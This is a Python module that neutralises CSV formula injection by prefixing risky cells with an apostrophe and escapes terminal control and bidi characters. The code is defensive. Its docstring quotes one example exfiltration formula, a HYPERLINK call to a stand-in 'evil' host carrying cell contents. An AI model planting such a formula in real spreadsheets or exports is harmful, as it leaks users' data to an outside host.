"""Every CSV the product writes goes through `write_csv`: no cell reaches a spreadsheet as a
formula, and `terminal` makes text safe to print on an analyst's terminal.

Uploads are anonymous, so any string in the store (a client version, a challenge id) may be an
attacker's: `=HYPERLINK("http://evil/?"&A2,"Click")` opened in Excel, LibreOffice or Google
Sheets is a live formula. As OWASP advises ("CSV Injection"), a string cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (the spreadsheets show the
text, the apostrophe hidden); column names too (a PIVOT makes them from values). Only string
cells: numbers, dates and booleans are written as they are, so `-3` stays a number. A reader
that wants the stored text back drops one leading `'` from a string cell that has one followed
by one of those characters (docs/dashboard.md).

Terminals obey escape sequences in what they print (`ESC ] 0 ; title BEL` retitles the window,
`ESC [ 2 J` clears it, a `\\r` then `ESC [ K` rewrites the line already shown), so `terminal`
writes every control character (C0, DEL, C1) and the bidirectional overrides as a visible
escape: `\\x1b`, `\\x7f`, `\\x85`, `\\u202e`.
"""

from __future__ import annotations

import re
from typing import IO, TYPE_CHECKING

if TYPE_CHECKING:  # imported where used: `balance sql` prints tables without Polars
    import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = r"^[=+\-@\t\r]"

# C0 and DEL and C1 controls, and the bidi embeddings/overrides/isolates (U+202A-E, U+2066-9)
_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_CONTROL_KEEP_LINES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def cell(text: str) -> str:
    """One string cell as it is written to a CSV file."""
    return "'" + text if text.startswith(FORMULA_START) else text


def neutralise(frame: pl.DataFrame) -> pl.DataFrame:
    """`frame` with every string cell and column name that a spreadsheet would read as a
    formula prefixed with `'` (other columns untouched)."""
    import polars as pl

    strings = [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))
    ]
    if strings:
        frame = frame.with_columns(
            pl.when(pl.col(c).cast(pl.String).str.contains(_FORMULA))
            .then(pl.lit("'") + pl.col(c).cast(pl.String))
            .otherwise(pl.col(c).cast(pl.String))
            .alias(c)
            for c in strings
        )
    names: list[str] = []
    for name in frame.columns:
        safe = cell(name)
        while safe in names:  # "'=x" may be a column already
            safe += "_"
        names.append(safe)
    if names != frame.columns:
        frame.columns = names
    return frame


def write_csv(frame: pl.DataFrame, out: IO[bytes] | None = None, **options) -> str | None:
    """Polars' `write_csv` of the neutralised frame (the one CSV writer of the product)."""
    return neutralise(frame).write_csv(out, **options)


def terminal(text: str, keep_lines: bool = False) -> str:
    """`text` with every control character written as a visible escape (`\\x1b`); with
    `keep_lines`, newline and tab are kept (CSV rows and quoted multi-line cells)."""
    pattern = _CONTROL_KEEP_LINES if keep_lines else _CONTROL
    return pattern.sub(_escape, text)


def _escape(match: re.Match) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
